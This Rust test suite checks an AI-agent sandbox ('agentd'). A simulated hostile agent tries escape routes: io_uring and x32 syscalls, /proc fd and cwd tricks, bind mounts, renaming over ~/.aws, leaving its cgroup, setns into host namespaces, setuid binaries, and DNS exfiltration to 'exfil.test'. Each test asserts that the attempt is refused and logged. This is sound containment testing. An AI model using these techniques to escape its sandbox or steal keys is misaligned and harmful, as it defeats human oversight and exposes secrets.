//! Ways around the containment that broke earlier sandboxes, each tried by a hostile agent
//! under the shipped `default` profile (or, for io_uring, by a process the seccomp filter
//! does not cover): each must fail, and each refusal must be on record. The attempts that
//! other suites already make are listed in README.md ("Bypass attempts"), with their tests.
//!
//! The agents run as root without capabilities where file permissions alone would let them
//! through (so that only agentd can be what stops them), and each attempt is shown to work
//! outside any agent first where that is safe to do.

use std::{
    net::{SocketAddr, TcpListener},
    os::unix::fs::PermissionsExt as _,
    path::Path,
    time::Duration,
};

use agentd::{ebpf, events::EventReader, network};
use agentd_common::agent::AgentEntry;
use agentd_tests::{
    DaemonSetup, FakeDns, TempDir, TestDaemon, TestRoot, act_bin, act_in, wait_until,
};
use serde_json::Value;

const DEFAULT_PROFILE: &str = include_str!("../../profiles/default.toml");

/// The shipped default profile, plus reading and running the test helper (where cargo
/// built it).
fn default_profile() -> String {
    let dir = act_bin!().parent().unwrap().display().to_string();
    let with = DEFAULT_PROFILE
        .replacen("read = [\n", &format!("read = [\n    \"{dir}\",\n"), 1)
        .replacen("exec = [", &format!("exec = [\"{dir}\", "), 1);
    assert_ne!(
        with, DEFAULT_PROFILE,
        "the profile's read and exec lists were found"
    );
    with
}

fn act() -> String {
    act_bin!().display().to_string()
}

/// `agentd-act ARGS...` as one agent of `d` (root, profile `profile`, home `home`), each
/// argument list one process; returns each process's report.
fn attempts(
    d: &TestDaemon,
    profile: &str,
    home: &Path,
    name: &str,
    runs: &[Vec<String>],
) -> Vec<Value> {
    let act = act();
    let script: String = runs
        .iter()
        .map(|args| {
            let quoted: Vec<String> = args.iter().map(|a| format!("'{a}'")).collect();
            format!("'{act}' {}; ", quoted.join(" "))
        })
        .collect();
    let out = d.run(&[
        "--profile",
        profile,
        "--user",
        "root",
        "--degraded-ok",
        "--home",
        home.to_str().unwrap(),
        "--name",
        name,
        "--",
        "/bin/sh",
        "-c",
        &script,
    ]);
    let text = String::from_utf8_lossy(&out.stdout);
    let reports: Vec<Value> = text
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    assert_eq!(
        reports.len(),
        runs.len(),
        "one report per attempt: {text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    reports
}

/// The agent's records of `kind` whose text mentions `what`, once there is one (or none
/// after 5 s).
fn recorded(d: &TestDaemon, agent: &str, kind: &str, what: &str) -> bool {
    wait_until(Duration::from_secs(5), || {
        d.audit_records().iter().any(|r| {
            r["agent"] == agent
                && r["kind"] == kind
                && [
                    &r["details"]["text"],
                    &r["details"]["path"],
                    &r["details"]["resolved"],
                ]
                .iter()
                .any(|t| t.as_str().is_some_and(|t| t.contains(what)))
        })
    })
}

fn errno(v: &Value) -> Option<i64> {
    (v["ok"] == false).then(|| v["errno"].as_i64()).flatten()
}

/// A home with a key only agentd keeps from a root agent.
fn home(dir: &TempDir) -> (std::path::PathBuf, std::path::PathBuf) {
    let h = dir.path().join("home");
    std::fs::create_dir_all(h.join(".ssh")).unwrap();
    let key = h.join(".ssh/id_ed25519");
    std::fs::write(&key, "PRIVATE KEY\n").unwrap();
    for (p, mode) in [
        (dir.path(), 0o755),
        (&h, 0o755),
        (&h.join(".ssh"), 0o755),
        (&key, 0o644),
    ] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
    }
    (h, key)
}

/// io_uring cannot even be set up in an agent (the seccomp filter), and the refusal is a
/// record.
#[test]
fn io_uring_cannot_be_set_up_in_an_agent() {
    let baseline = act_in(&act_bin!(), None, &["uring-setup"]);
    baseline.assert_ok();
    let d = TestDaemon::start(&[("default", &default_profile())]);
    let dir = TempDir::new("bypass-uring");
    let (h, _) = home(&dir);
    let r = attempts(&d, "default", &h, "uring", &[vec!["uring-setup".into()]]);
    assert_eq!(errno(&r[0]), Some(libc::EPERM as i64), "{}", r[0]);
    assert!(recorded(
        &d,
        "uring",
        "syscall_denied",
        "io_uring_setup (x86-64)"
    ));
}

/// The x32 entry point (system call numbers with __X32_SYSCALL_BIT) is no way around the
/// filter: ptrace (x32 number 521) and unshare(CLONE_NEWUSER) (272) fail with EPERM in an
/// agent: the filter refuses them before the kernel looks at the number (on this build
/// host, whose kernel has no x32, they fail with ENOSYS outside agents).
#[test]
fn x32_calls_fail_in_an_agent() {
    let newuser = libc::CLONE_NEWUSER.to_string();
    let calls: [&[&str]; 2] = [&["x32", "521"], &["x32", "272", &newuser]];
    let d = TestDaemon::start(&[("default", &default_profile())]);
    let dir = TempDir::new("bypass-x32");
    let (h, _) = home(&dir);
    let runs: Vec<Vec<String>> = calls
        .iter()
        .map(|c| c.iter().map(|a| a.to_string()).collect())
        .collect();
    let r = attempts(&d, "default", &h, "x32", &runs);
    for (call, inside) in calls.iter().zip(&r) {
        let outside = act_in(&act_bin!(), None, call);
        assert_ne!(
            outside.errno(),
            Some(libc::EPERM),
            "{call:?} outside: only the filter says EPERM"
        );
        assert_eq!(
            errno(inside),
            Some(libc::EPERM as i64),
            "{call:?}: {inside}"
        );
    }
}

/// Were io_uring let through (a kernel or filter that allowed it), what it submits still
/// meets agentd's kernel checks: a connect through io_uring by a process of an agent's
/// cgroup (here without the launcher's seccomp filter) is refused by the cgroup hook with
/// EPERM, with an event, and the listener receives nothing; an open through io_uring by a
/// process restricted by Landlock as the launcher does it is refused with EACCES.
#[test]
fn io_uring_submissions_still_meet_the_cgroup_hooks_and_landlock() {
    let root = TestRoot::new("bypass-uring-hooks");
    let agent_cg = root.child("agent");
    let denied = TcpListener::bind("127.0.0.1:0").unwrap();
    denied.set_nonblocking(true).unwrap();
    let addr = denied.local_addr().unwrap().to_string();
    let act = act_bin!();
    act_in(&act, None, &["uring-connect", &addr]).assert_ok();
    assert!(denied.accept().is_ok(), "outside agents it connects");
    let mut kernel = ebpf::load(&root.load_config()).unwrap();
    agentd::agent::register(
        &mut kernel,
        agent_cg.id(),
        AgentEntry {
            policy_id: 7,
            ..Default::default()
        },
    )
    .unwrap();
    let mut reader = EventReader::take(&mut kernel).unwrap();
    network::attach(&mut kernel, &root.open(), None).unwrap();
    act_in(&act, Some(&agent_cg), &["uring-connect", &addr]).assert_errno(libc::EPERM);
    assert!(
        matches!(denied.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the listener received nothing"
    );
    let port = denied.local_addr().unwrap().port();
    let mut events = Vec::new();
    assert!(
        wait_until(Duration::from_secs(2), || {
            events.extend(reader.drain());
            events.iter().any(|e| {
                e.to_string()
                    .contains(&format!("connect 127.0.0.1:{port}/tcp denied"))
            })
        }),
        "no event for the io_uring connect: {events:?}"
    );
    // Landlock: the same rules the launcher builds, every file allowed but the secret.
    let dir = TempDir::new("bypass-uring-landlock");
    let secret = dir.write("secret", "s3cret");
    let secret = secret.to_str().unwrap();
    act_in(&act, None, &["uring-open", secret]).assert_ok();
    act_in(&act, None, &["landlocked", secret, "uring-open", secret]).assert_errno(libc::EACCES);
}

/// File tricks of the default profile's agent (root, no capabilities): a file descriptor
/// opened with O_PATH and reopened through /proc/self/fd, openat2 with RESOLVE flags, the
/// working directory of a process outside the agent through /proc/PID/cwd, a bind mount,
/// and a writable directory renamed over a denied path. Each fails, each is on record.
#[test]
fn file_tricks_fail_and_are_recorded() {
    let d = TestDaemon::start(&[("default", &default_profile())]);
    let dir = TempDir::new("bypass-files");
    let (h, key) = home(&dir);
    let key_s = key.to_str().unwrap().to_string();
    let work = dir.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let mnt = dir.path().join("mnt");
    std::fs::write(&mnt, "").unwrap();
    // A process outside agents, sitting in a directory of its own.
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::write(elsewhere.join("notes"), "n\n").unwrap();
    let mut other = std::process::Command::new("/bin/sleep")
        .arg("60")
        .current_dir(&elsewhere)
        .spawn()
        .unwrap();
    let other_cwd = format!("/proc/{}/cwd/notes", other.id());
    // RESOLVE_NO_MAGICLINKS | RESOLVE_NO_SYMLINKS: the flags work outside (a plain path).
    let act = act_bin!();
    for args in [
        vec!["opath-reopen", &key_s],
        vec!["openat2", &key_s, "6"],
        vec!["open", &other_cwd, "read"],
    ] {
        act_in(&act, None, &args).assert_ok();
    }
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<String>>();
    let w = |p: &str| work.join(p).to_str().unwrap().to_string();
    let aws = h.join(".aws").to_str().unwrap().to_string();
    std::fs::create_dir_all(work.join("d")).unwrap();
    std::fs::set_permissions(&work, std::fs::Permissions::from_mode(0o777)).unwrap();
    let r = attempts(
        &d,
        "default",
        &h,
        "tricks",
        &[
            s(&["opath-reopen", &key_s]),
            s(&["openat2", &key_s, "6"]),
            s(&["openat2", &key_s, "16"]),
            s(&["open", &other_cwd, "read"]),
            s(&["mount-bind", &key_s, mnt.to_str().unwrap()]),
            s(&["rename", &w("d"), &aws]),
        ],
    );
    let _ = other.kill();
    let _ = other.wait();
    for (i, (what, errnos)) in [
        ("O_PATH then /proc/self/fd", &[libc::EACCES][..]),
        (
            "openat2 RESOLVE_NO_SYMLINKS|NO_MAGICLINKS",
            &[libc::EACCES][..],
        ),
        ("openat2 RESOLVE_IN_ROOT", &[libc::EACCES, libc::ENOENT][..]),
        ("/proc/PID/cwd of another process", &[libc::EACCES][..]),
        ("bind mount", &[libc::EPERM][..]),
        (
            "rename over a denied path",
            &[libc::EACCES, libc::EXDEV][..],
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let e = errno(&r[i]);
        assert!(
            e.is_some_and(|e| errnos.iter().any(|x| *x as i64 == e)),
            "{what} must fail with {errnos:?}: {}",
            r[i]
        );
    }
    assert!(!Path::new(&aws).exists(), "nothing was renamed over {aws}");
    assert!(
        recorded(&d, "tricks", "file_denied", "/proc/self/fd/"),
        "O_PATH reopen on record"
    );
    assert!(
        recorded(&d, "tricks", "file_denied", &key_s),
        "openat2 on record"
    );
    assert!(
        recorded(&d, "tricks", "file_denied", &other_cwd),
        "/proc/PID/cwd on record"
    );
    assert!(
        recorded(&d, "tricks", "syscall_denied", "mount (x86-64)"),
        "mount on record"
    );
    assert!(
        recorded(&d, "tricks", "file_denied", &w("d")),
        "rename on record"
    );
}

/// Identity: a sub-cgroup of its own (to leave the kill switch's reach or its budgets),
/// the host's namespaces (setns), a setuid-root program: each fails; the first two are on
/// record. (A setuid bit is ignored under no_new_privs: nothing is refused, so nothing is
/// recorded; the test shows the program runs with the agent's identity.)
#[test]
fn identity_tricks_fail() {
    let d = TestDaemon::start(&[("default", &default_profile())]);
    let dir = TempDir::new("bypass-identity");
    let (h, _) = home(&dir);
    // A setuid-root copy of the helper, beside it (where the profile lets agents run it);
    // removed when the test ends.
    struct Removed(std::path::PathBuf);
    impl Drop for Removed {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let suid =
        Removed(act_bin!().with_file_name(format!("agentd-act-suid-{}", std::process::id())));
    std::fs::copy(act_bin!(), &suid.0).unwrap();
    std::fs::set_permissions(&suid.0, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let suid = &suid.0;
    let sub = d.root.join("ids").join("sub");
    let out = d.run(&[
        "--profile",
        "default",
        "--home",
        h.to_str().unwrap(),
        "--name",
        "ids",
        "--degraded-ok",
        "--",
        "/bin/sh",
        "-c",
        &format!(
            "mkdir '{sub}'; echo \"mkdir rc=$?\"; '{act}' setns /proc/1/ns/net; '{act}' setns /proc/self/ns/net; '{suid}' ids",
            sub = sub.display(),
            act = act(),
            suid = suid.display()
        ),
    ]);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(text.contains("mkdir rc=1"), "no sub-cgroup: {text}");
    assert!(!sub.exists());
    let reports: Vec<Value> = text
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    assert_eq!(reports.len(), 3, "{text}");
    assert_eq!(
        errno(&reports[0]),
        Some(libc::EACCES as i64),
        "host namespace: {}",
        reports[0]
    );
    assert_eq!(
        errno(&reports[1]),
        Some(libc::EPERM as i64),
        "setns: {}",
        reports[1]
    );
    assert_eq!(
        reports[2]["detail"]["euid"], 65534,
        "setuid ignored: {}",
        reports[2]
    );
    assert!(recorded(
        &d,
        "ids",
        "file_denied",
        &sub.display().to_string()
    ));
    assert!(recorded(&d, "ids", "file_denied", "/proc/1/ns/net"));
    assert!(recorded(&d, "ids", "syscall_denied", "setns (x86-64)"));
}

/// DNS: a query whose long labels carry data, for a name the profile does not allow, to a
/// resolver address written into the program, over UDP and TCP: REFUSED, recorded, and
/// never sent upstream.
#[test]
fn a_dns_query_carrying_data_in_a_long_name_never_leaves() {
    let upstream = FakeDns::start(&[]);
    let d = TestDaemon::with(DaemonSetup {
        profiles: &[("default", &default_profile())],
        extra_config: &format!("[dns]\nupstream = [\"{}\"]\n", upstream.addr),
        resolv_conf: Some("nameserver 127.0.0.1\n"),
        ..Default::default()
    });
    let dir = TempDir::new("bypass-dns");
    let (h, _) = home(&dir);
    let label = "6b6579".repeat(10); // 60 characters of "data"
    let name = format!("{label}.{label}.{label}.x.exfil.test");
    let r = attempts(
        &d,
        "default",
        &h,
        "dns",
        &[
            vec![
                "dns".into(),
                name.clone(),
                "192.0.2.53:53".into(),
                "udp".into(),
            ],
            vec![
                "dns".into(),
                name.clone(),
                "192.0.2.53:53".into(),
                "tcp".into(),
            ],
        ],
    );
    for v in &r {
        assert_eq!(v["detail"]["rcode"], "Refused", "{v}");
    }
    assert!(
        recorded(&d, "dns", "dns_refused", "exfil.test"),
        "on record"
    );
    assert!(
        upstream.asked().iter().all(|q| !q.contains("exfil")),
        "never sent upstream: {:?}",
        upstream.asked()
    );
}

/// Budgets count per agent, not per process: eight processes connecting at once share one
/// `connects` budget.
#[test]
fn work_spread_over_processes_shares_one_budget() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr: SocketAddr = listener.local_addr().unwrap();
    listener.set_nonblocking(true).unwrap();
    let profile = format!(
        "name = \"spread\"\nversion = \"1.0.0\"\n[network]\nallow = [\"127.0.0.1/32:{}/tcp\"]\n\
         [files]\ndefault = \"allow\"\n[budgets.connects]\nrate = 10\nburst = 20\naction = \"deny\"\n",
        addr.port()
    );
    let d = TestDaemon::start(&[("spread", &profile)]);
    let start = std::time::Instant::now();
    let out = d.run(&[
        "--profile",
        "spread",
        "--name",
        "spread",
        "--",
        "/bin/sh",
        "-c",
        &format!(
            "for i in 1 2 3 4 5 6 7 8; do '{act}' connect-for {addr} 2 & done; wait",
            act = act()
        ),
    ]);
    let secs = start.elapsed().as_secs_f64();
    let text = String::from_utf8_lossy(&out.stdout);
    let ok: u64 = text
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter_map(|v| v["detail"]["ok"].as_u64())
        .sum();
    // burst + rate x time, and one per CPU for two taking the last token at once.
    let bound = 20 + (10.0 * secs).ceil() as u64 + 2;
    assert!(ok > 0, "some connects went through: {text}");
    assert!(
        ok <= bound,
        "{ok} connects in {secs:.1} s by 8 processes, bound {bound}: {text}"
    );
    assert!(recorded(&d, "spread", "budget_exhausted", "connects"));
}
